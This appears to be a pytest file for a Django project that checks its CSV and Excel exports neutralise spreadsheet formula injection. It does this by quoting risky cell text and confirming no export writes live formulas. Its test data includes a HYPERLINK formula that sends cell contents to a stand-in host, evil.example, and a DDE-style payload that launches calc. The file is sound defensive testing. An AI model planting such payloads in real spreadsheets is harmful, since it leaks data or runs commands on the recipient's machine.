"""Exports never hand a spreadsheet a formula: every CSV goes through core/csv.py (every CSV route is
asked in test_csv_routes.py)."""

import datetime
import io
import re
from decimal import Decimal
from io import BytesIO
from pathlib import Path

import pytest
from django.conf import settings
from django.utils.translation import gettext_lazy
from openpyxl import Workbook, load_workbook

from conftest import client_for
from sangtao.challenges.models import Indicator
from sangtao.core import csv as safe_csv
from sangtao.evaluation.models import Measurement
from sangtao.surveys.ingest import Incoming, ingest
from sangtao.surveys.models import Measure, Source

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\r=1",
            "'=already quoted", "''-twice"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_text_is_quoted_and_the_quote_comes_off_on_import(text):
    written = safe_csv.neutralise(text)
    assert written == "'" + text
    assert safe_csv.unquote(written) == text


@pytest.mark.parametrize("value", ["plain", "'quoted prose", "1-2", "a=b", "", -5, 2.5, Decimal("-5.50"), None,
                                   datetime.date(2026, 1, 2)])
def test_other_cells_are_written_as_they_are(value):
    assert safe_csv.neutralise(value) == value
    if isinstance(value, str):
        assert safe_csv.unquote(value) == value


def test_a_negative_number_stays_a_number_and_the_same_text_is_quoted():
    written = io.StringIO()
    safe_csv.Writer(written).writerow([-5, Decimal("-5"), "-5"])
    assert written.getvalue() == "-5,-5,'-5\r\n"


def test_an_object_written_as_formula_like_text_is_quoted():
    """A model or a lazy translation is written as its text: the text is what a spreadsheet reads."""

    class Unit:
        def __str__(self):
            return "=1+2"

    assert safe_csv.neutralise(Unit()) == "'=1+2"
    assert safe_csv.neutralise(gettext_lazy("@x")) == "'@x"


def test_no_module_writes_spreadsheet_rows_around_the_safe_writer():
    """The class guard for workbooks: a new export that calls sheet.append directly fails here. (CSV
    written around core/csv, in any import form, is the conventions rule csv-writer.)"""
    root = Path(settings.BASE_DIR) / "sangtao"
    direct = re.compile(r"\b(sheet|summary|worksheet)\.append\(")
    offenders = [str(path.relative_to(root)) for path in root.rglob("*.py")
                 if "tests" not in path.parts and path.name != "csv.py" and direct.search(path.read_text())]
    assert offenders == []


@pytest.mark.parametrize("write_only", [False, True], ids=["ordinary", "streamed"])
def test_a_spreadsheet_row_keeps_formula_like_text_as_text(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("Trang") if write_only else book.active
    safe_csv.append_row(sheet, ["=1+1", 3, "@x", "=A1"])
    safe_csv.append_row(sheet, ["=B2", None, "=C2"])
    buffer = BytesIO()
    book.save(buffer)
    rows = list(load_workbook(BytesIO(buffer.getvalue())).active.iter_rows())
    assert [[(c.value, c.data_type) for c in row] for row in rows] == [
        [("=1+1", "s"), (3, "n"), ("@x", "s"), ("=A1", "s")], [("=B2", "s"), (None, "n"), ("=C2", "s"), (None, "n")]]


@pytest.fixture
def hostile(survey, dost, health):
    """Formula-like text wherever anyone can type it: a challenge's title, a unit's name, an indicator,
    a measurement's source, a survey's free-text answer and an imported response id."""
    challenge = survey.challenge
    type(challenge).objects.filter(pk=challenge.pk).update(title=FORMULAS[0])
    type(health).objects.filter(pk=health.pk).update(name="=1+2")
    indicator = challenge.indicators.get()
    Indicator.objects.filter(pk=indicator.pk).update(name="-2+3")
    Measurement.objects.create(indicator=indicator, value=-5, measured_on=datetime.date(2026, 2, 1),
                               source="@SUM(A1)", recorded_by=dost)
    text = survey.version.items.get(measure=Measure.TEXT)
    scale = survey.version.items.filter(measure=Measure.SATISFACTION).first()
    ingest(survey, [Incoming(health.pk, survey.periods.first().pk, {scale.pk: 4}, texts={text.pk: "+cmd|' /C calc'!A0"},
                             external_id="-1", weight=1.0)], Source.PAPER)
    return survey


@pytest.mark.django_db
@pytest.mark.parametrize("url", ["/surveys/{survey}/indices.xlsx", "/challenges/{challenge}/outcome.xlsx"])
def test_every_spreadsheet_export_keeps_formula_like_text_as_text(hostile, dost, url):
    response = client_for(dost).get(url.format(survey=hostile.pk, challenge=hostile.challenge_id))
    assert response.status_code == 200
    cells = [cell for sheet in load_workbook(BytesIO(response.content)) for row in sheet.iter_rows() for cell in row]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    assert any(isinstance(cell.value, str) and cell.value.startswith(("=", "-", "@")) for cell in cells)
